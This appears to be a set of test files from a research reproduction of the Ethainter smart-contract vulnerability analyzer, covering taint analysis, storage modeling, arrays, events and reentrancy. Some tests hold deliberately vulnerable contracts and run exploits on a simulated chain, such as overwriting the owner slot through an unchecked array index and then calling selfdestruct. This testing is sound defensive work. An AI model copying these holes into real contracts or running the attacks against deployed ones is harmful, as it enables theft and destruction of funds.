    chain.fund(0xD, 10**18)
    address = chain.deploy(0xD, contract.init_with_args(), value=value).contract_address
    killer = EthainterKill(chain, solver_assisted=assisted)
    outcome = killer.attack(address, analyze_bytecode(contract.runtime))
    return chain, address, outcome


class TestSolverAssist:
    def test_magic_value_cracked_with_assist(self):
        chain, address, outcome = attack(MAGIC_SOURCE, assisted=True)
        assert outcome.destroyed
        assert outcome.reason == "solver-assisted"
        assert chain.state.is_destroyed(address)

    def test_magic_value_survives_without_assist(self):
        chain, address, outcome = attack(MAGIC_SOURCE, assisted=False)
        assert not outcome.destroyed
        assert not chain.state.is_destroyed(address)

    def test_dead_state_survives_even_with_assist(self):
        """Genuinely unreachable state defeats the solver too: the
        constraint active == 2 contradicts the concrete storage (active=1),
        so the symbolic path is unsatisfiable — the Kill result is the
        *correct* 'not exploitable' verdict for this Ethainter FP."""
        chain, address, outcome = attack(DEAD_STATE_SOURCE, assisted=True)
        assert not outcome.destroyed

    def test_assist_not_used_when_plan_succeeds(self, victim_contract):
        chain = Blockchain()
        chain.fund(0xD, 10**18)
        address = chain.deploy(0xD, victim_contract.init_with_args()).contract_address
        killer = EthainterKill(chain, solver_assisted=True)
        outcome = killer.attack(address, analyze_bytecode(victim_contract.runtime))
        assert outcome.destroyed
        assert outcome.reason != "solver-assisted"  # plan alone sufficed

    def test_assisted_rate_dominates_plain_rate(self):
        """On a mixed bag, solver assistance can only add kills."""
        sources = [MAGIC_SOURCE, DEAD_STATE_SOURCE]
        plain = sum(1 for s in sources if attack(s, assisted=False)[2].destroyed)
        assisted = sum(1 for s in sources if attack(s, assisted=True)[2].destroyed)
        assert assisted > plain
