"""Declarative (Datalog) bytecode analysis vs the Python fixpoint.

The paper implements Ethainter as Datalog rules on Soufflé; this repository
keeps both a declarative specification (:mod:`repro.core.bytecode_datalog`)
and an imperative fast path (:mod:`repro.core.taint`).  These tests pin
them together: identical relations on canonical contracts, on a corpus
sample, and under every ablation configuration.
"""

import pytest

from repro.core.bytecode_datalog import analyze_with_datalog
from repro.core.facts import extract_facts
from repro.core.guards import build_guard_model
from repro.core.storage_model import build_storage_model
from repro.core.taint import TaintAnalysis, TaintOptions
from repro.corpus import generate_corpus
from repro.decompiler import lift

COMPARED_FIELDS = (
    "input_tainted",
    "storage_tainted",
    "tainted_slots",
    "reachable",
    "compromised_guards",
    "writable_mappings",
)

CONFIGS = [
    TaintOptions(),
    TaintOptions(model_guards=False),
    TaintOptions(model_storage_taint=False),
    TaintOptions(conservative_storage=True),
]


def both_results(runtime, options):
    facts = extract_facts(lift(runtime))
    storage = build_storage_model(facts)
    guards = build_guard_model(facts, storage)
    python_result = TaintAnalysis(facts, storage, guards, options).run()
    datalog_result = analyze_with_datalog(
        facts=facts, storage=storage, guards=guards, options=options
    )
    return python_result, datalog_result


def assert_equivalent(runtime, options):
    python_result, datalog_result = both_results(runtime, options)
    for field in COMPARED_FIELDS:
        assert getattr(python_result, field) == getattr(datalog_result, field), field


class TestCanonicalContracts:
    def test_victim_all_configs(self, victim_contract):
        for options in CONFIGS:
            assert_equivalent(victim_contract.runtime, options)

    def test_safe_all_configs(self, safe_contract):
        for options in CONFIGS:
            assert_equivalent(safe_contract.runtime, options)

    def test_tainted_owner(self, tainted_owner_contract):
        assert_equivalent(tainted_owner_contract.runtime, TaintOptions())

    def test_token(self, token_contract):
        for options in CONFIGS:
            assert_equivalent(token_contract.runtime, options)

    def test_storage_mediated_selfdestruct(self, tainted_sd_storage_contract):
        assert_equivalent(tainted_sd_storage_contract.runtime, TaintOptions())


class TestCorpusEquivalence:
    @pytest.mark.parametrize("seed", [3, 17])
    def test_corpus_sample_default_config(self, seed):
        for contract in generate_corpus(25, seed=seed):
            assert_equivalent(contract.runtime, TaintOptions())

    def test_corpus_sample_ablations(self):
        for contract in generate_corpus(12, seed=41):
            for options in CONFIGS[1:]:
                assert_equivalent(contract.runtime, options)


class TestDatalogEntryPoints:
    def test_from_raw_bytecode(self, victim_contract):
        result = analyze_with_datalog(victim_contract.runtime)
        assert result.writable_mappings == {0, 1}
        assert 2 in result.tainted_slots

    def test_requires_input(self):
        with pytest.raises(ValueError):
            analyze_with_datalog()

    def test_composite_reaches_fixpoint_in_datalog(self, victim_contract):
        """The escalation requires genuinely recursive evaluation: guards
        compromised by taint unlock reachability which creates taint."""
        result = analyze_with_datalog(victim_contract.runtime)
        python_result, _ = both_results(victim_contract.runtime, TaintOptions())
        assert result.compromised_guards == python_result.compromised_guards
        assert len(result.compromised_guards) == 4
