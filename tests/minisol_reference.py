"""A reference interpreter for a MiniSol subset, used in differential tests.

Executes function bodies directly over the AST with Python semantics
matching the EVM's (256-bit wrapping arithmetic, zero-on-division-by-zero,
non-short-circuit logic).  The property tests compile the same source to
EVM bytecode, run it on the VM, and require identical results — a
whole-compiler differential oracle.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.minisol import ast_nodes as ast
from repro.minisol.checker import check
from repro.minisol.parser import parse

WORD = (1 << 256) - 1


class RequireFailed(Exception):
    pass


class _Return(Exception):
    def __init__(self, value: int):
        self.value = value


class ReferenceContract:
    """Interprets one contract's functions against a dict-based state."""

    def __init__(self, source: str, sender: int = 0xCA11, callvalue: int = 0):
        self.program = check(parse(source))
        self.contract = self.program.contracts[0]
        self.sender = sender
        self.callvalue = callvalue
        # State: scalar name -> value; mapping name -> {key tuple: value}.
        self.state: Dict[str, object] = {}
        for var in self.contract.state_vars:
            if isinstance(var.var_type, (ast.MappingType, ast.ArrayType)):
                self.state[var.name] = {}
            else:
                self.state[var.name] = (
                    self._eval(var.initializer, {}) if var.initializer else 0
                )
        if self.contract.constructor is not None:
            self.call("constructor", [])

    # ----------------------------------------------------------------- API

    def call(self, name: str, args: List[int]) -> Optional[int]:
        if name == "constructor":
            fn = self.contract.constructor
        else:
            fn = self.contract.function(name)
        local_env = {param.name: value & WORD for param, value in zip(fn.params, args)}
        body = self._with_modifiers(fn)
        try:
            self._exec_block(body, local_env)
        except _Return as ret:
            return ret.value
        return 0

    def _with_modifiers(self, fn: ast.FunctionDef) -> ast.Block:
        from repro.minisol.codegen import _ModifierInliner
        import copy

        inliner = _ModifierInliner(self.contract)
        return inliner.effective_body(copy.deepcopy(fn))

    # ----------------------------------------------------------- execution

    def _exec_block(self, block: ast.Block, env: Dict[str, int]) -> None:
        for stmt in block.statements:
            self._exec(stmt, env)

    def _exec(self, stmt: ast.Stmt, env: Dict[str, int]) -> None:
        if isinstance(stmt, ast.Block):
            self._exec_block(stmt, env)
        elif isinstance(stmt, ast.VarDecl):
            env[stmt.name] = (
                self._eval(stmt.initializer, env) if stmt.initializer else 0
            )
        elif isinstance(stmt, ast.Assign):
            value = self._eval(stmt.value, env)
            if stmt.op == "+=":
                value = (self._eval(stmt.target, env) + value) & WORD
            elif stmt.op == "-=":
                value = (self._eval(stmt.target, env) - value) & WORD
            self._store(stmt.target, value, env)
        elif isinstance(stmt, ast.If):
            if self._eval(stmt.condition, env):
                self._exec(stmt.then_branch, env)
            elif stmt.else_branch is not None:
                self._exec(stmt.else_branch, env)
        elif isinstance(stmt, ast.While):
            iterations = 0
            while self._eval(stmt.condition, env):
                self._exec(stmt.body, env)
                iterations += 1
                if iterations > 100_000:
                    raise RuntimeError("reference interpreter loop bound")
        elif isinstance(stmt, ast.Require):
            if not self._eval(stmt.condition, env):
                raise RequireFailed()
        elif isinstance(stmt, ast.Return):
            raise _Return(self._eval(stmt.value, env) if stmt.value else 0)
        elif isinstance(stmt, ast.Emit):
            for arg in stmt.args:
                self._eval(arg, env)
        elif isinstance(stmt, ast.ExprStmt):
            self._eval(stmt.expr, env)
        else:
            raise NotImplementedError(type(stmt).__name__)

    def _store(self, target: ast.Expr, value: int, env: Dict[str, int]) -> None:
        value &= WORD
        if isinstance(target, ast.Identifier):
            if target.name in env:
                env[target.name] = value
            else:
                self.state[target.name] = value
            return
        if isinstance(target, ast.IndexAccess):
            keys: List[int] = []
            base = target
            while isinstance(base, ast.IndexAccess):
                keys.append(self._eval(base.index, env))
                base = base.base
            keys.reverse()
            mapping = self.state[base.name]
            mapping[tuple(keys)] = value
            return
        raise NotImplementedError(type(target).__name__)

    # ---------------------------------------------------------- expressions

    def _eval(self, expr: ast.Expr, env: Dict[str, int]) -> int:
        if isinstance(expr, ast.NumberLiteral):
            return expr.value & WORD
        if isinstance(expr, ast.BoolLiteral):
            return 1 if expr.value else 0
        if isinstance(expr, ast.MsgSender):
            return self.sender
        if isinstance(expr, ast.MsgValue):
            return self.callvalue
        if isinstance(expr, ast.Identifier):
            if expr.name in env:
                return env[expr.name]
            return self.state[expr.name]  # type: ignore[return-value]
        if isinstance(expr, ast.IndexAccess):
            keys: List[int] = []
            base = expr
            while isinstance(base, ast.IndexAccess):
                keys.append(self._eval(base.index, env))
                base = base.base
            keys.reverse()
            mapping = self.state[base.name]
            return mapping.get(tuple(keys), 0)  # type: ignore[union-attr]
        if isinstance(expr, ast.UnaryOp):
            operand = self._eval(expr.operand, env)
            if expr.op == "!":
                return 0 if operand else 1
            if expr.op == "-":
                return (-operand) & WORD
        if isinstance(expr, ast.BinaryOp):
            left = self._eval(expr.left, env)
            right = self._eval(expr.right, env)
            op = expr.op
            if op == "+":
                return (left + right) & WORD
            if op == "-":
                return (left - right) & WORD
            if op == "*":
                return (left * right) & WORD
            if op == "/":
                return 0 if right == 0 else left // right
            if op == "%":
                return 0 if right == 0 else left % right
            if op == "==":
                return int(left == right)
            if op == "!=":
                return int(left != right)
            if op == "<":
                return int(left < right)
            if op == ">":
                return int(left > right)
            if op == "<=":
                return int(left <= right)
            if op == ">=":
                return int(left >= right)
            if op == "&&":
                return int(bool(left) and bool(right))
            if op == "||":
                return int(bool(left) or bool(right))
        if isinstance(expr, ast.CallExpr):
            fn = next(
                (f for f in self.contract.functions if f.name == expr.name), None
            )
            if fn is not None:
                return self.call(fn.name, [self._eval(a, env) for a in expr.args]) or 0
        raise NotImplementedError(type(expr).__name__)
