"""Parallel batch analysis."""

import pytest

from repro.core import AnalysisConfig
from repro.core.batch import analyze_many
from repro.corpus import generate_corpus


@pytest.fixture(scope="module")
def small_corpus():
    return generate_corpus(24, seed=13)


class TestSequential:
    def test_entries_ordered_and_complete(self, small_corpus):
        summary = analyze_many([c.runtime for c in small_corpus], jobs=1)
        assert summary.total == len(small_corpus)
        assert [entry.index for entry in summary.entries] == list(range(len(small_corpus)))

    def test_flag_counts_match_direct_analysis(self, small_corpus):
        from repro.core import analyze_bytecode

        summary = analyze_many([c.runtime for c in small_corpus], jobs=1)
        for contract, entry in zip(small_corpus, summary.entries):
            direct = analyze_bytecode(contract.runtime)
            assert set(entry.kinds) == {w.kind for w in direct.warnings}

    def test_config_respected(self, small_corpus):
        default = analyze_many([c.runtime for c in small_corpus], jobs=1)
        no_guards = analyze_many(
            [c.runtime for c in small_corpus],
            AnalysisConfig(model_guards=False),
            jobs=1,
        )
        assert no_guards.flagged >= default.flagged

    def test_kind_counts(self, small_corpus):
        summary = analyze_many([c.runtime for c in small_corpus], jobs=1)
        counts = summary.kind_counts()
        assert sum(counts.values()) >= summary.flagged


class TestProfiling:
    def test_entries_carry_stage_profile(self, small_corpus):
        summary = analyze_many([c.runtime for c in small_corpus], jobs=1)
        totals = summary.stage_seconds()
        assert set(totals) == {"lift", "facts", "values", "storage", "guards", "ordering", "taint", "detect"}
        assert all(seconds >= 0 for seconds in totals.values())
        assert summary.deadline_exceeded == 0

    def test_battery_matches_per_config_runs(self, small_corpus):
        from repro.core.batch import analyze_battery

        bytecodes = [c.runtime for c in small_corpus]
        configs = [AnalysisConfig(), AnalysisConfig(model_guards=False)]
        summaries = analyze_battery(bytecodes, configs, jobs=1)
        for config, summary in zip(configs, summaries):
            direct = analyze_many(bytecodes, config, jobs=1)
            assert [e.kinds for e in summary.entries] == [
                e.kinds for e in direct.entries
            ]
        # Second config re-used the first one's prefix artifacts.
        assert summaries[1].cache_hits >= 4 * len(bytecodes)

    def test_battery_parallel_matches_sequential(self, small_corpus):
        from repro.core.batch import analyze_battery

        bytecodes = [c.runtime for c in small_corpus]
        configs = [AnalysisConfig(), AnalysisConfig(conservative_storage=True)]
        sequential = analyze_battery(bytecodes, configs, jobs=1)
        parallel = analyze_battery(bytecodes, configs, jobs=3)
        for left, right in zip(sequential, parallel):
            assert [e.kinds for e in left.entries] == [e.kinds for e in right.entries]

    def test_battery_requires_configs(self):
        from repro.core.batch import analyze_battery

        with pytest.raises(ValueError):
            analyze_battery([b""], [], jobs=1)


class TestDegradedMode:
    def test_pool_failure_is_recorded_not_swallowed(self, small_corpus, monkeypatch):
        import repro.core.batch as batch_module

        class BrokenContext:
            def Pool(self, *args, **kwargs):
                raise OSError("no forking allowed here")

            def Pipe(self, *args, **kwargs):
                raise OSError("no forking allowed here")

            def Process(self, *args, **kwargs):
                raise OSError("no forking allowed here")

        monkeypatch.setattr(
            batch_module.multiprocessing,
            "get_context",
            lambda *args, **kwargs: BrokenContext(),
        )
        bytecodes = [c.runtime for c in small_corpus]
        summary = analyze_many(bytecodes, jobs=4)
        assert summary.degraded
        assert "no forking allowed here" in summary.degraded_reason
        assert summary.total == len(bytecodes)

    def test_healthy_pool_is_not_degraded(self, small_corpus):
        summary = analyze_many([c.runtime for c in small_corpus], jobs=2)
        assert not summary.degraded
        assert summary.degraded_reason == ""


class TestParallel:
    def test_parallel_matches_sequential(self, small_corpus):
        bytecodes = [c.runtime for c in small_corpus]
        sequential = analyze_many(bytecodes, jobs=1)
        parallel = analyze_many(bytecodes, jobs=3)
        assert [e.kinds for e in sequential.entries] == [
            e.kinds for e in parallel.entries
        ]

    def test_empty_input(self):
        summary = analyze_many([], jobs=4)
        assert summary.total == 0

    def test_single_contract_stays_in_process(self, small_corpus):
        summary = analyze_many([small_corpus[0].runtime], jobs=8)
        assert summary.total == 1
