"""Parallel batch analysis."""

import pytest

from repro.core import AnalysisConfig
from repro.core.batch import analyze_many
from repro.corpus import generate_corpus


@pytest.fixture(scope="module")
def small_corpus():
    return generate_corpus(24, seed=13)


class TestSequential:
    def test_entries_ordered_and_complete(self, small_corpus):
        summary = analyze_many([c.runtime for c in small_corpus], jobs=1)
        assert summary.total == len(small_corpus)
        assert [entry.index for entry in summary.entries] == list(range(len(small_corpus)))

    def test_flag_counts_match_direct_analysis(self, small_corpus):
        from repro.core import analyze_bytecode

        summary = analyze_many([c.runtime for c in small_corpus], jobs=1)
        for contract, entry in zip(small_corpus, summary.entries):
            direct = analyze_bytecode(contract.runtime)
            assert set(entry.kinds) == {w.kind for w in direct.warnings}

    def test_config_respected(self, small_corpus):
        default = analyze_many([c.runtime for c in small_corpus], jobs=1)
        no_guards = analyze_many(
            [c.runtime for c in small_corpus],
            AnalysisConfig(model_guards=False),
            jobs=1,
        )
        assert no_guards.flagged >= default.flagged

    def test_kind_counts(self, small_corpus):
        summary = analyze_many([c.runtime for c in small_corpus], jobs=1)
        counts = summary.kind_counts()
        assert sum(counts.values()) >= summary.flagged


class TestParallel:
    def test_parallel_matches_sequential(self, small_corpus):
        bytecodes = [c.runtime for c in small_corpus]
        sequential = analyze_many(bytecodes, jobs=1)
        parallel = analyze_many(bytecodes, jobs=3)
        assert [e.kinds for e in sequential.entries] == [
            e.kinds for e in parallel.entries
        ]

    def test_empty_input(self):
        summary = analyze_many([], jobs=4)
        assert summary.total == 0

    def test_single_contract_stays_in_process(self, small_corpus):
        summary = analyze_many([small_corpus[0].runtime], jobs=8)
        assert summary.total == 1
