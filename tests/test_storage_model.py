"""Storage/data-structure modeling: DS/DSA, aliases, mapping attribution."""

from repro.core.facts import extract_facts
from repro.core.storage_model import build_storage_model, memory_var
from repro.decompiler import lift
from repro.minisol import compile_source


def model_for(source, name=None):
    facts = extract_facts(lift(compile_source(source, name).runtime))
    return facts, build_storage_model(facts)


SENDER_MAP_SOURCE = """
contract M {
    mapping(address => bool) allowed;
    function check() public returns (bool) { return allowed[msg.sender]; }
}
"""

ARG_MAP_SOURCE = """
contract M {
    mapping(address => bool) allowed;
    function check(address who) public returns (bool) { return allowed[who]; }
}
"""


class TestDS:
    def test_caller_is_ds(self):
        facts, model = model_for(SENDER_MAP_SOURCE)
        assert facts.caller_defs <= model.ds_vars

    def test_sender_keyed_lookup_value_is_ds(self):
        facts, model = model_for(SENDER_MAP_SOURCE)
        loaded = {
            load.def_var for load in facts.storage_loads if load.const_slot is None
        }
        assert loaded & model.ds_vars  # DSA-Load: element of sender-keyed DS

    def test_hash_of_sender_is_dsa(self):
        facts, model = model_for(SENDER_MAP_SOURCE)
        hash_defs = {h.def_var for h in facts.hashes}
        assert hash_defs & model.dsa_vars

    def test_arg_keyed_lookup_not_ds(self):
        facts, model = model_for(ARG_MAP_SOURCE)
        loaded = {
            load.def_var for load in facts.storage_loads if load.const_slot is None
        }
        assert not (loaded & model.ds_vars)

    def test_ds_propagates_through_memory_copies(self):
        # msg.sender stored to a local and reloaded must remain DS.
        facts, model = model_for(
            """
contract M {
    mapping(address => bool) allowed;
    function check() public returns (bool) {
        address me = msg.sender;
        return allowed[me];
    }
}
"""
        )
        loaded = {
            load.def_var for load in facts.storage_loads if load.const_slot is None
        }
        assert loaded & model.ds_vars


class TestStorageAlias:
    def test_loaded_scalar_aliases_slot(self):
        facts, model = model_for(
            """
contract A {
    uint256 pad;
    address owner;
    function get() public returns (address) { return owner; }
}
"""
        )
        aliases = set()
        for load in facts.storage_loads:
            if load.const_slot == 1:
                aliases |= model.aliases_of(load.def_var)
        assert 1 in aliases

    def test_alias_extends_through_copies(self, safe_contract):
        facts = extract_facts(lift(safe_contract.runtime))
        model = build_storage_model(facts)
        # Some variable somewhere aliases the owner slot 0.
        assert any(0 in slots for slots in model.storage_alias.values())


class TestMappingAttribution:
    def test_simple_mapping_root(self):
        facts, model = model_for(SENDER_MAP_SOURCE)
        assert model.mapping_accesses
        assert {a.base_slot for a in model.mapping_accesses.values()} == {0}

    def test_two_mappings_distinct_roots(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        model = build_storage_model(facts)
        roots = {a.base_slot for a in model.mapping_accesses.values()}
        assert roots == {0, 1}  # admins and users

    def test_nested_mapping_attributed_to_root(self):
        facts, model = model_for(
            """
contract N {
    uint256 pad;
    mapping(address => mapping(address => uint256)) allowed;
    function get(address a, address b) public returns (uint256) {
        return allowed[a][b];
    }
}
"""
        )
        roots = {a.base_slot for a in model.mapping_accesses.values()}
        assert roots == {1}

    def test_key_var_recorded(self):
        facts, model = model_for(ARG_MAP_SOURCE)
        access = next(iter(model.mapping_accesses.values()))
        assert access.key_var


class TestCopyClosure:
    def test_memory_round_trip_copies(self):
        facts, model = model_for(
            """
contract C {
    function f(uint256 x) public returns (uint256) {
        uint256 y = x;
        return y;
    }
}
"""
        )
        # Some variable must copy (transitively) from a memory var.
        assert any(
            any(source.startswith("m0x") for source in sources)
            for sources in model.copy_sources.values()
        )

    def test_memory_var_naming(self):
        assert memory_var(0x80) == "m0x80"

    def test_copy_sources_include_self(self):
        facts, model = model_for(SENDER_MAP_SOURCE)
        for variable, sources in model.copy_sources.items():
            assert variable in sources
