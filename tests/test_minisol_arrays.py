"""Fixed-size arrays: layout, semantics, the unrestricted-write bug class."""

import pytest

from repro.chain import Blockchain
from repro.core import analyze_bytecode
from repro.minisol import ast_nodes as ast
from repro.minisol import compile_source
from repro.minisol.abi import decode_word
from repro.minisol.checker import CheckError
from repro.minisol.parser import parse

ARRAY_SOURCE = """
contract A {
    uint256 before;
    uint256[3] cells;
    address after;

    constructor() { before = 7; after = msg.sender; }
    function put(uint256 i, uint256 v) public { cells[i] = v; }
    function get(uint256 i) public returns (uint256) { return cells[i]; }
}
"""


def deployed(source=ARRAY_SOURCE):
    contract = compile_source(source)
    chain = Blockchain()
    chain.fund(0xA, 10**18)
    address = chain.deploy(0xA, contract.init_with_args()).contract_address
    return chain, contract, address


class TestParsing:
    def test_array_type_parsed(self):
        contract = parse(ARRAY_SOURCE).contracts[0]
        array = contract.state_var("cells").var_type
        assert isinstance(array, ast.ArrayType)
        assert array.size == 3
        assert str(array) == "uint256[3]"

    def test_bad_size_literal(self):
        from repro.minisol.parser import ParseError

        with pytest.raises(ParseError):
            parse("contract C { uint256[x] a; }")


class TestChecking:
    def test_slot_layout_reserves_array_slots(self):
        from repro.minisol.checker import check

        contract = check(parse(ARRAY_SOURCE)).contracts[0]
        assert contract.state_var("before").slot == 0
        assert contract.state_var("cells").slot == 1
        assert contract.state_var("after").slot == 4

    def test_zero_size_rejected(self):
        with pytest.raises(CheckError):
            compile_source("contract C { uint256[0] a; }")

    def test_double_index_rejected(self):
        with pytest.raises(CheckError):
            compile_source(
                "contract C { uint256[2] a; function f() public { a[0][1] = 1; } }"
            )

    def test_bare_array_read_rejected(self):
        with pytest.raises(CheckError):
            compile_source(
                "contract C { uint256[2] a; uint256 b;"
                " function f() public returns (uint256) { return a + b; } }"
            )

    def test_array_initializer_rejected(self):
        with pytest.raises(CheckError):
            compile_source("contract C { uint256[2] a = 1; }")


class TestSemantics:
    def test_in_bounds_read_write(self):
        chain, contract, address = deployed()
        chain.transact(0xB, address, contract.calldata("put", 1, 42))
        assert (
            decode_word(
                chain.call(0xB, address, contract.calldata("get", 1)).return_data
            )
            == 42
        )

    def test_elements_land_in_consecutive_slots(self):
        chain, contract, address = deployed()
        for index in range(3):
            chain.transact(0xB, address, contract.calldata("put", index, index + 10))
        for index in range(3):
            assert chain.state.get_storage(address, 1 + index) == index + 10

    def test_out_of_bounds_write_aliases_neighbor_slot(self):
        """No bounds check: index 3 lands on `after` (slot 4) — the
        storage-collision bug class this feature exists to reproduce."""
        chain, contract, address = deployed()
        chain.transact(0xB, address, contract.calldata("put", 3, 0xE71))
        assert chain.state.get_storage(address, 4) == 0xE71


class TestAnalysis:
    UNCHECKED = """
contract A {
    uint256[3] cells;
    address owner;
    constructor() { owner = msg.sender; }
    function store(uint256 i, uint256 v) public { cells[i] = v; }
    function shutdown() public {
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""

    def test_unchecked_array_write_triggers_storage_write2(self):
        result = analyze_bytecode(compile_source(self.UNCHECKED).runtime)
        kinds = {w.kind for w in result.warnings}
        assert "tainted-owner-variable" in kinds
        assert "accessible-selfdestruct" in kinds

    def test_constant_index_write_is_precise(self):
        """A constant array index folds to a constant slot: no smear."""
        source = """
contract A {
    uint256[3] cells;
    address owner;
    constructor() { owner = msg.sender; }
    function bump(uint256 v) public { cells[1] = v; }
    function shutdown() public {
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""
        result = analyze_bytecode(compile_source(source).runtime)
        assert not result.warnings

    def test_untainted_value_write_is_precise(self):
        """Tainted index but constant value: StorageWrite-2 needs BOTH."""
        source = """
contract A {
    uint256[3] cells;
    address owner;
    constructor() { owner = msg.sender; }
    function mark(uint256 i) public { cells[i] = 1; }
    function shutdown() public {
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""
        result = analyze_bytecode(compile_source(source).runtime)
        assert not result.warnings

    def test_exploit_end_to_end(self):
        """The analysis-predicted attack works on the VM: overwrite the
        owner slot through the array, then pass the guard."""
        contract = compile_source(self.UNCHECKED)
        chain = Blockchain()
        chain.fund(0xD, 10**18)
        attacker = 0xBAD
        chain.fund(attacker, 10**18)
        address = chain.deploy(0xD, contract.init_with_args(), value=123).contract_address
        denied = chain.transact(attacker, address, contract.calldata("shutdown"))
        assert not denied.success
        # owner sits at slot 3 (after cells[0..2]); index 3 reaches it.
        chain.transact(attacker, address, contract.calldata("store", 3, attacker))
        receipt = chain.transact(attacker, address, contract.calldata("shutdown"))
        assert receipt.success
        assert chain.state.is_destroyed(address)
