"""MiniSol events: parsing, checking, codegen, VM logs."""

import pytest

from repro.chain import Blockchain
from repro.core import analyze_bytecode
from repro.evm.hashing import keccak_int
from repro.minisol import ast_nodes as ast
from repro.minisol import compile_source
from repro.minisol.checker import CheckError
from repro.minisol.parser import ParseError, parse

SOURCE = """
contract T {
    event Transfer(address to, uint256 value);
    event Ping();
    mapping(address => uint256) balances;
    constructor() { balances[msg.sender] = 100; }
    function transfer(address to, uint256 value) public {
        require(balances[msg.sender] >= value);
        balances[to] += value;
        balances[msg.sender] -= value;
        emit Transfer(to, value);
    }
    function ping() public { emit Ping(); }
}
"""


class TestParsing:
    def test_event_declaration(self):
        contract = parse(SOURCE).contracts[0]
        assert [e.name for e in contract.events] == ["Transfer", "Ping"]
        assert contract.events[0].signature == "Transfer(address,uint256)"

    def test_emit_statement(self):
        contract = parse(SOURCE).contracts[0]
        emit = contract.function("transfer").body.statements[-1]
        assert isinstance(emit, ast.Emit)
        assert emit.name == "Transfer"
        assert len(emit.args) == 2

    def test_event_requires_semicolon(self):
        with pytest.raises(ParseError):
            parse("contract C { event E() }")


class TestChecking:
    def test_unknown_event(self):
        with pytest.raises(CheckError):
            compile_source("contract C { function f() public { emit Nope(); } }")

    def test_arity_mismatch(self):
        with pytest.raises(CheckError):
            compile_source(
                "contract C { event E(uint256 a); function f() public { emit E(); } }"
            )


class TestExecution:
    def test_log_emitted_with_topic_and_data(self):
        contract = compile_source(SOURCE)
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        address = chain.deploy(0xA, contract.init_with_args()).contract_address
        receipt = chain.transact(0xA, address, contract.calldata("transfer", 0xB, 40))
        assert receipt.success
        (log,) = receipt.result.logs
        log_address, topics, data = log
        assert log_address == address
        assert topics == [keccak_int(b"Transfer(address,uint256)")]
        assert int.from_bytes(data[:32], "big") == 0xB
        assert int.from_bytes(data[32:], "big") == 40

    def test_zero_arg_event(self):
        contract = compile_source(SOURCE)
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        address = chain.deploy(0xA, contract.init_with_args()).contract_address
        receipt = chain.transact(0xA, address, contract.calldata("ping"))
        (log,) = receipt.result.logs
        assert log[1] == [keccak_int(b"Ping()")]
        assert log[2] == b""

    def test_reverted_transaction_drops_logs(self):
        contract = compile_source(SOURCE)
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        address = chain.deploy(0xA, contract.init_with_args()).contract_address
        receipt = chain.transact(
            0xA, address, contract.calldata("transfer", 0xB, 10**9)
        )
        assert not receipt.success

    def test_emit_in_modifier(self):
        source = """
contract C {
    event Guarded(address who);
    modifier logged() { emit Guarded(msg.sender); _; }
    uint256 x;
    function f(uint256 v) public logged { x = v; }
}
"""
        contract = compile_source(source)
        chain = Blockchain()
        chain.fund(0xA, 10**18)
        address = chain.deploy(0xA, contract.init_with_args()).contract_address
        receipt = chain.transact(0xA, address, contract.calldata("f", 5))
        assert receipt.success
        assert len(receipt.result.logs) == 1


class TestAnalysisNeutrality:
    def test_events_do_not_affect_findings(self):
        """LOG instructions are not taint sinks: a benign token with events
        stays clean, a vulnerable contract with events stays flagged."""
        assert not analyze_bytecode(compile_source(SOURCE).runtime).warnings
        vulnerable = """
contract C {
    event Died(address to);
    function die(address to) public {
        emit Died(to);
        selfdestruct(to);
    }
}
"""
        result = analyze_bytecode(compile_source(vulnerable).runtime)
        kinds = {w.kind for w in result.warnings}
        assert kinds == {"accessible-selfdestruct", "tainted-selfdestruct"}
