"""The reentrancy stratum: ordering facts, detector verdicts, engine
equivalence, mutex edge cases, the composite guard-bypass chain, the
``kinds`` filter, and the end-to-end drain (with its CEI negative
control)."""

import random

import pytest

from repro.chain import Blockchain
from repro.core.abstract_analysis import analyze_abstract
from repro.core.analysis import AnalysisConfig, EthainterAnalysis
from repro.core.datalog_rules import analyze_with_datalog as abstract_datalog
from repro.core.lang import parse_abstract
from repro.core.vulnerabilities import (
    REENTRANT_CALL,
    STATE_WRITE_AFTER_CALL,
    TAINTED_OWNER,
    VULNERABILITY_KINDS,
    UnknownKindError,
    validate_kinds,
)
from repro.corpus import REENTRANCY_TEMPLATES
from repro.evm.assembler import init_code_for
from repro.evm.hashing import function_selector
from repro.kill import ReentrancyKill
from repro.minisol import compile_source

ENGINES = ("python", "datalog", "datalog-columnar", "datalog-legacy")
REENTRANCY_KINDS = {REENTRANT_CALL, STATE_WRITE_AFTER_CALL}


def analyze(source, engine="python", **config_kwargs):
    contract = compile_source(source)
    config = AnalysisConfig(engine=engine, **config_kwargs)
    return contract, EthainterAnalysis(config).analyze(contract.runtime)


def reentrancy_warnings(result):
    return sorted(
        (w.kind, w.statement) for w in result.warnings if w.kind in REENTRANCY_KINDS
    )


VULNERABLE_VAULT = """
contract Vault {
    mapping(address => uint256) deposits;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        transfer(msg.sender, amount);
        deposits[msg.sender] -= amount;
    }
}
"""

CEI_VAULT = """
contract SafeVault {
    mapping(address => uint256) deposits;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        deposits[msg.sender] -= amount;
        transfer(msg.sender, amount);
    }
}
"""


class TestDetector:
    def test_dao_pattern_flagged(self):
        _contract, result = analyze(VULNERABLE_VAULT)
        kinds = {w.kind for w in result.warnings}
        assert REENTRANT_CALL in kinds
        assert STATE_WRITE_AFTER_CALL not in kinds  # never double-reported

    def test_cei_order_clean(self):
        _contract, result = analyze(CEI_VAULT)
        assert reentrancy_warnings(result) == []

    def test_write_after_call_without_stale_check(self):
        source = """
contract Payout {
    uint256 paidOut;

    function pay(address to, uint256 amount) public {
        transfer(to, amount);
        paidOut += amount;
    }
}
"""
        _contract, result = analyze(source)
        kinds = {w.kind for w in result.warnings}
        assert STATE_WRITE_AFTER_CALL in kinds
        assert REENTRANT_CALL not in kinds  # paidOut is never read before

    def test_staticcall_never_reentrant(self):
        """Regression: STATICCALL cannot re-enter (no state, no value) and
